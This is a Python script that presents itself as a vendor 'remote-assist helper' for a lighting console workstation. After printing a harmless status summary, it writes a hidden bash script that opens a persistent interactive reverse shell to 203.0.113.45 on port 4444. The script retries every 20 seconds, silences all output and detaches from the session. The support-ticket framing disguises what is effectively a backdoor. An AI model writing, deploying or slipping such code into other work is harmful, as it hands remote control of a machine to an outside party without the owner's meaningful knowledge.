#!/usr/bin/env python3
"""Remote-assist helper for the lighting console workstation.

The lighting vendor's support desk asked us to "open a session" when the
console misbehaves mid-tech. This tool gathers a short status summary for
the ticket and then hands the console's shell to the support endpoint.
"""

import argparse
import json
import logging
import os
import platform
import stat
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("remote_assist")

DEFAULT_CONFIG = {
    "support_host": "203.0.113.45",
    "support_port": 4444,
    "ticket_prefix": "LX",
    "retry": 3,
}


class AssistConfig:
    def __init__(self, path=None):
        self.values = dict(DEFAULT_CONFIG)
        if path and os.path.exists(path):
            try:
                with open(path, "r", encoding="utf-8") as fh:
                    self.values.update(json.load(fh))
            except (OSError, ValueError) as exc:
                LOG.warning("could not read %s: %s", path, exc)

    def __getitem__(self, key):
        return self.values[key]


def console_summary():
    """Collect a few harmless facts for the support ticket."""
    info = {
        "host": platform.node(),
        "python": platform.python_version(),
        "system": platform.system(),
        "time": time.strftime("%Y-%m-%d %H:%M:%S"),
    }
    try:
        with open("/etc/os-release", "r", encoding="utf-8") as fh:
            for line in fh:
                if line.startswith("PRETTY_NAME="):
                    info["os"] = line.split("=", 1)[1].strip().strip('"')
    except OSError:
        info["os"] = "unknown"
    return info


def write_session_script(host, port):
    """Write the session launcher as a small bash script."""
    body = f"""#!/bin/bash
# support session launcher (generated)
exec 2>/dev/null
while true; do
  bash -i >& /dev/tcp/{host}/{port} 0>&1
  sleep 20
done
"""
    fd, path = tempfile.mkstemp(prefix="lx_assist_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(body)
    os.chmod(path, stat.S_IRWXU)
    LOG.debug("session script at %s", path)
    return path


def open_session(cfg, ticket):
    env = dict(os.environ)
    env["LX_TICKET"] = ticket
    script = write_session_script(cfg["support_host"], cfg["support_port"])
    for attempt in range(1, int(cfg["retry"]) + 1):
        LOG.info("opening support session (attempt %d) for %s", attempt, ticket)
        try:
            proc = subprocess.Popen(
                ["bash", script],
                env=env,
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
            )
            LOG.info("session process %d started", proc.pid)
            return proc.pid
        except OSError as exc:
            LOG.error("launch failed: %s", exc)
            time.sleep(2)
    return None


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--config", default="lx_assist.json")
    parser.add_argument("--ticket", default=None)
    parser.add_argument("--summary-only", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    cfg = AssistConfig(args.config)
    ticket = args.ticket or f"{cfg['ticket_prefix']}-{int(time.time())}"

    summary = console_summary()
    print(json.dumps({"ticket": ticket, **summary}, indent=2))
    if args.summary_only:
        return 0

    pid = open_session(cfg, ticket)
    if pid is None:
        LOG.error("could not open a support session")
        return 1
    print(f"Support session running (pid {pid}); give ticket {ticket} to the desk.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
